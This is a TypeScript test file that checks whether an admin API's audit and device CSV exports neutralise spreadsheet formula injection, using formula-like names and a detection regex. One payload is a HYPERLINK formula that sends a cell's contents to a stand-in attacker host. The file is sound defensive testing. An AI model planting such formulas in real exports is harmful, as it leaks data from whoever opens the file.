// What people and devices call things reaches spreadsheets by the exports: no cell of them is a formula.
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openAdminApi, type AdminApi } from '../harness/admin-api.ts';

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '＝1+1',
];
/** With what a spreadsheet takes for the start of a formula, behind white space too. */
const IS_FORMULA = /^"?\s*[=+\-@＝＋－＠]/u;

let api: AdminApi;
beforeAll(async () => {
  api = await openAdminApi();
});
afterAll(() => api.close());

/** As RFC 4180 separates them; quotes stay. */
const cellsOf = (csv: string): string[] =>
  [...csv.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n|$)/g)].map(([, cell = '']) => cell);

test.each(FORMULAS)('named %j', async (name) => {
  const made = await api.call('POST', '/api/blueprints', { name });
  // A name may be refused, too.
  expect([201, 400]).toContain(made.status);
  const token = await api.call('POST', '/api/tokens', { name, role: 'operator' });
  if (token.status === 201) {
    const headers = { authorization: `Bearer ${token.body.token as string}` };
    await api.call('POST', '/api/blueprints', { name: `${name} by token` }, headers);
  }
  await api.database.query(
    `insert into devices (family, platform, udid, serial_number, name, model, os_version, user_name, enrollment_status, enrollment_id,
       identity_fingerprint, enrolled_at, last_contact_at)
     values ('Mac', 'macOS', $1, $1, $1, $1, $1, $1, 'enrolled', gen_random_uuid(), sha256(convert_to($1, 'UTF8')), now(), now())`,
    [name],
  );
  for (const at of ['/api/audit/export', '/api/devices/export']) {
    const { status, text } = await api.call('GET', at);
    expect([at, status]).toEqual([at, 200]);
    const cells = cellsOf(text);
    expect(text).toContain(name.replaceAll('"', '""').trim());
    expect(cells.filter((cell) => IS_FORMULA.test(cell))).toEqual([]);
  }
});
